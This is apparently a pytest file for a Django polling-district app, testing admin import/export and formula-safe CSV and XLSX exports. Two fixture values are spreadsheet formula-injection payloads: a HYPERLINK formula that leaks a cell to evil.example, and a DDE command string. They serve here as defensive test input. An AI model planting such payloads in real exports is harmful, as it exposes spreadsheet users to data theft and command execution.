import pytest
import tablib

from members.models import PollingDistrict, PollingStation
from members.resources import PollingDistrictResource, PollingStationResource


@pytest.mark.django_db
def test_it_manager_can_import_stations_and_districts_with_import_export(geography):
    stations = tablib.Dataset(
        headers=["constituency", "code", "name", "address", "postcode", "uprn"]
    )
    stations.append(
        [geography["constituency"].name, "S9", "Castle School", "School Lane", "NB1 9ZZ", ""]
    )
    result = PollingStationResource().import_data(stations, dry_run=False)
    assert not result.has_errors()
    districts = tablib.Dataset(headers=["constituency", "ward", "code", "name", "polling_station"])
    districts.append([geography["constituency"].name, "Castle", "CD", "Castle D", "S9"])
    result = PollingDistrictResource().import_data(districts, dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors()
    assert PollingDistrict.objects.get(code="CD").polling_station == PollingStation.objects.get()


@pytest.mark.django_db
def test_admin_pages_for_members_tables_open(client_for):
    from django.urls import reverse

    client = client_for("itmanager")
    for name in ("members_pollingdistrict", "members_importbatch", "members_ward"):
        assert client.get(reverse(f"admin:{name}_changelist")).status_code == 200
    assert client.get(reverse("admin:members_pollingdistrict_import")).status_code == 200


def _admin_export(client, model: str, format_title: str, resource_fields: str):
    """Export a model's changelist through the admin's export page, in the named format."""
    from django.urls import reverse

    url = reverse(f"admin:members_{model}_export")
    form = client.get(url).context["form"]
    choices = dict((label, value) for value, label in form.fields["format"].choices)
    data = {"format": choices[format_title], "resource": 0}
    data.update({name: "on" for name in form.fields if name.startswith(resource_fields + "_")})
    response = client.post(url, data)
    assert response.status_code == 200, response.content[:500]
    return response.content


HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
HOSTILE_ADDRESS = "+cmd|' /C calc'!A0"


@pytest.mark.django_db
def test_admin_exports_write_formula_cells_as_text(geography, client_for):
    """A polling station's name and address come from council files: the IT manager's
    export must not hand them to a spreadsheet as formulas, in CSV or in XLSX."""
    import io

    import openpyxl

    from clp.roles import RoleCode

    PollingStation.objects.create(
        constituency=geography["constituency"],
        code="S1",
        name=HOSTILE_NAME,
        address=HOSTILE_ADDRESS,
    )
    client = client_for(RoleCode.IT_MANAGER)

    content = _admin_export(client, "pollingstation", "csv", "pollingstationresource")
    assert content.startswith("\ufeff".encode())  # Excel then reads it as UTF-8
    text = content.decode("utf-8-sig")
    dataset = tablib.Dataset().load(text, format="csv")
    row = dict(zip(dataset.headers, dataset[0], strict=True))
    assert row["name"] == "'" + HOSTILE_NAME
    assert row["address"] == "'" + HOSTILE_ADDRESS

    content = _admin_export(client, "pollingstation", "xlsx", "pollingstationresource")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header = [cell.value for cell in sheet[1]]
    cells = {header[i]: cell for i, cell in enumerate(sheet[2])}
    for column, value in (("name", HOSTILE_NAME), ("address", HOSTILE_ADDRESS)):
        assert cells[column].data_type != "f"
        assert cells[column].value == "'" + value


@pytest.mark.django_db
def test_every_admin_export_format_writes_formula_cells_as_text():
    """Any ModelAdmin that offers exports (now or later) offers only formula-safe formats."""
    from django.contrib import admin

    from clp.exports import FormulaSafe

    exporting = [a for a in admin.site._registry.values() if hasattr(a, "get_export_formats")]
    assert exporting
    for model_admin in exporting:
        for fmt in model_admin.get_export_formats():
            assert issubclass(fmt, FormulaSafe), (model_admin, fmt)


@pytest.mark.django_db
def test_admin_import_of_an_over_long_value_is_a_row_error(geography):
    stations = tablib.Dataset(
        headers=["constituency", "code", "name", "address", "postcode", "uprn"]
    )
    stations.append([geography["constituency"].name, "S9", "Castle School", "", "NB1 9ZZ" * 3, ""])
    result = PollingStationResource().import_data(stations, dry_run=False)
    assert result.has_validation_errors()
    errors = result.invalid_rows[0].error_dict
    assert "postcode" in errors and "at most 10" in str(errors["postcode"])
    assert not PollingStation.objects.exists()
